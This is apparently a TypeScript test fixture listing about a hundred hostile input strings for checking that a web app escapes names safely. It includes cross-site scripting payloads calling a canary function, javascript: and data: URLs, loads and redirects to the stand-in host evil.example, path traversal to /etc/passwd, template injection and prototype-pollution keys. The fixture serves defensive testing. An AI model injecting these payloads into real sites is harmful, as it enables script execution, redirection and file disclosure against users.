// A hundred and one strings that a careless page would run, mangle or follow elsewhere. Each can be a name: at
// most 1,024 bytes of UTF-8. A script that runs calls `hostile()`, which does not return unnoticed.

const scripts = [
  "<script>hostile()</script>",
  "</title><script>hostile()</script>",
  "</textarea><script>hostile()</script>",
  "</style><script>hostile()</script>",
  "--><script>hostile()</script>",
  "]]><script>hostile()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>hostile()</script>",
  "<scr<script>ipt>hostile()</scr</script>ipt>",
  "<script type=module>import 'data:text/javascript,hostile()'</script>",
  "<noscript><p title='</noscript><img src=x onerror=hostile()>'>",
  "<template><script>hostile()</script></template>",
  "';hostile();//",
  '";hostile();//',
  "`;hostile();//",
  "\\';hostile();//",
  '"}});hostile();({a:({b:"',
];

const elements = [
  "<img src=x onerror=hostile()>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=hostile()>',
  "'><img src=x onerror=hostile()>",
  "<img/src='x'onerror=hostile()>",
  "<image src=x onerror=hostile()>",
  "<svg onload=hostile()>",
  "<svg><script>hostile()</script></svg>",
  "<svg><animate onbegin=hostile() attributeName=x dur=1s>",
  "<svg><set onbegin=hostile() attributename=x>",
  "<svg><a xlink:href=javascript:hostile()><text y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.hostile()</script>'/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hostile()>",
  "<body onload=hostile()>",
  "<iframe src=javascript:parent.hostile()></iframe>",
  "<iframe srcdoc='<script>parent.hostile()</script>'></iframe>",
  "<object data=javascript:hostile()></object>",
  "<embed src=javascript:hostile()>",
  "<video><source onerror=hostile()></video>",
  "<audio src=x onerror=hostile()>",
  "<details open ontoggle=hostile()>x</details>",
  "<input autofocus onfocus=hostile()>",
  "<select autofocus onfocus=hostile()>",
  "<marquee onstart=hostile()>x</marquee>",
  "<a href=javascript:hostile()>x</a>",
  "<form action=javascript:hostile()><button>x</button></form>",
  "<isindex type=image src=1 onerror=hostile()>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<div style=background:url(//evil.example/x)>x</div>",
  "<x onclick=hostile() tabindex=0 autofocus onfocus=hostile()>",
  '" onmouseover="hostile()" x="',
  "' onfocus='hostile()' autofocus='",
  "<!--><img src=x onerror=hostile()>-->",
  "<b>bold</b>",
];

const addresses = [
  "javascript:hostile()",
  "JaVaScRiPt:hostile()",
  "java\tscript:hostile()",
  "\u0001javascript:hostile()",
  "data:text/html,<script>hostile()</script>",
  "vbscript:hostile()",
  "//evil.example/x",
  "https://evil.example/x",
  "/\\evil.example",
  "\\\\evil.example\\x",
  "..",
  ".",
  "...",
  "../../etc/passwd",
  "..\\..\\windows",
  "a/../b",
  "%2F",
  "%2e%2e%2f",
  "%252e%252e",
  "%00",
  "%",
  "%zz",
  "~",
  "~..",
  "a/b",
  "?tab=details",
  "#content",
  "a?b=c&d=e#f",
  "a&experiment=b",
  "a+b c",
  ";a=b",
  "compare",
  "experiments",
  "__proto__",
  "constructor",
];

const templates = [
  "{{constructor.constructor('hostile()')()}}",
  "${hostile()}",
  "<%= hostile() %>",
];

const characters = [
  "&lt;script&gt;hostile()&lt;/script&gt;",
  "&#60;img src=x onerror=hostile()&#62;",
  "\u202Egnp.exe",
  "a\u0000b",
  "\u001b]0;title\u0007\u001b[31mred",
  "line\nbreak\r\n<img src=x onerror=hostile()>",
  "\u2028\u2029\uFEFFx",
  "Z\u0351\u036B\u0343\u036A\u0302\u036Ba\u0334lgo \u{1F469}\u200D\u{1F469}\u200D\u{1F467} \u0627\u0644\u0639\u0631\u0628\u064A\u0629",
];

const LONG = "<img src=x onerror=hostile()>".repeat(40).slice(0, 1024);

export const hostileStrings: readonly string[] = [
  ...scripts,
  ...elements,
  ...addresses,
  ...templates,
  ...characters,
  LONG,
];

// The name of a project has no "/".
export const hostileProjects: readonly string[] = [
  ...new Set(hostileStrings.map((text) => text.replaceAll("/", "\\"))),
];
